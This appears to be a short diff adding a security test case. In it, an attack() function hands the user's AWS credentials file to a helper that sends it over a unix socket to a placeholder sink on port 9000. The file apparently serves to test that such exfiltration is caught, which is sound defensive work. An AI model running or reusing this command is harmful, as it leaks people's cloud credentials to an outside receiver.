@@ -1,0 +1,3 @@
+# SPDX-License-Identifier: Apache-2.0
+TITLE="the opened secret is passed over a unix socket to the sender"
+attack() { "$PROVOKE/scm" secret "$HOME/.aws/credentials" "$SINK4" 9000; }
